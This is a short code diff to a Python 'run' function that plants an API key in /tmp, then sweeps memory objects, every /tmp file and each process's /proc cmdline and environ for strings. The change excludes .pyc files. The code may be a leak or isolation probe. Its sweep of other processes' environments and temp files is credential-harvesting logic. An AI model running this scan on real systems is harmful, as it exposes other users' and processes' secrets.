@@ -253,7 +253,8 @@ def run(request: Text, context: Context) -> Text:
     Path("/tmp/mine").write_text(context.secret("API_KEY"))
     found = [str(value) for value in gc.get_objects() if isinstance(value, dict) and "API_KEY" in value]
     for folder, _, files in os.walk("/tmp"):
-        found += [Path(folder, name).read_bytes().decode(errors="replace") for name in files]  # compiled modules, too
+        kept = [name for name in files if ".pyc" not in name]  # a fresh installation compiles its modules here
+        found += [Path(folder, name).read_bytes().decode(errors="replace") for name in kept]
     for pid in filter(str.isdigit, os.listdir("/proc")):
         raw = Path(f"/proc/{pid}/cmdline").read_bytes() + Path(f"/proc/{pid}/environ").read_bytes()
         found.append(raw.decode(errors="replace"))  # of a process that is just starting or ending it may be anything
